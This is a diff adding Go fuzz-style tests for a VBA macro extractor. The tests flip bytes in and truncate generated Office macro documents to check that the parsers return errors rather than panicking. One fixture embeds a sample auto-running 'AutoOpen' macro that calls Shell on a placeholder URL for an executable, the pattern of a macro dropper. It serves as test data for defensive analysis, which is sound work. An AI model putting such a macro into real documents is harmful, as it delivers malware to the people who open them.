@@ -1,0 +1,96 @@
+package extract
+
+import (
+	"math/rand"
+	"testing"
+
+	"repro/internal/cfb"
+	"repro/internal/ooxml"
+	"repro/internal/ovba"
+)
+
+// Failure injection: the malicious corpus contains deliberately corrupted
+// files, so every parser layer must fail with an error — never a panic —
+// on arbitrary mutations of valid documents.
+
+func buildValidDoc(t testing.TB) []byte {
+	t.Helper()
+	p := &ovba.Project{Name: "P", Modules: []ovba.Module{{
+		Name: "Module1",
+		Source: `Sub AutoOpen()
+    Dim target As String
+    target = "http://example.test/x.exe"
+    Shell target, 1
+End Sub
+`,
+	}}}
+	b := cfb.NewBuilder()
+	if err := p.WriteTo(b, "Macros"); err != nil {
+		t.Fatal(err)
+	}
+	raw, err := b.Bytes()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return raw
+}
+
+func TestByteFlipsNeverPanic(t *testing.T) {
+	raw := buildValidDoc(t)
+	rng := rand.New(rand.NewSource(1))
+	for trial := 0; trial < 400; trial++ {
+		mutated := append([]byte(nil), raw...)
+		// Flip 1-8 random bytes.
+		for k := 0; k < 1+rng.Intn(8); k++ {
+			mutated[rng.Intn(len(mutated))] ^= byte(1 + rng.Intn(255))
+		}
+		// Must not panic; errors are fine, results are fine.
+		_, _ = File(mutated)
+	}
+}
+
+func TestTruncationsNeverPanic(t *testing.T) {
+	raw := buildValidDoc(t)
+	for cut := 0; cut < len(raw); cut += 97 {
+		_, _ = File(raw[:cut])
+	}
+}
+
+func TestOOXMLCorruptionNeverPanics(t *testing.T) {
+	p := &ovba.Project{Name: "P", Modules: []ovba.Module{{Name: "M", Source: "Sub A()\nEnd Sub\n"}}}
+	b := cfb.NewBuilder()
+	if err := p.WriteTo(b, ""); err != nil {
+		t.Fatal(err)
+	}
+	vbaBin, err := b.Bytes()
+	if err != nil {
+		t.Fatal(err)
+	}
+	doc, err := ooxml.Write(ooxml.DocWord, vbaBin, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rng := rand.New(rand.NewSource(2))
+	for trial := 0; trial < 200; trial++ {
+		mutated := append([]byte(nil), doc...)
+		for k := 0; k < 1+rng.Intn(6); k++ {
+			mutated[rng.Intn(len(mutated))] ^= byte(1 + rng.Intn(255))
+		}
+		_, _ = File(mutated)
+	}
+}
+
+func TestCompressedStreamCorruptionNeverPanics(t *testing.T) {
+	// Target the module stream specifically: decompression sees the worst
+	// of the corruption.
+	src := "Sub A()\n    x = \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"\nEnd Sub\n"
+	comp := ovba.Compress([]byte(src))
+	rng := rand.New(rand.NewSource(3))
+	for trial := 0; trial < 500; trial++ {
+		mutated := append([]byte(nil), comp...)
+		for k := 0; k < 1+rng.Intn(4); k++ {
+			mutated[rng.Intn(len(mutated))] ^= byte(1 + rng.Intn(255))
+		}
+		_, _ = ovba.Decompress(mutated)
+	}
+}
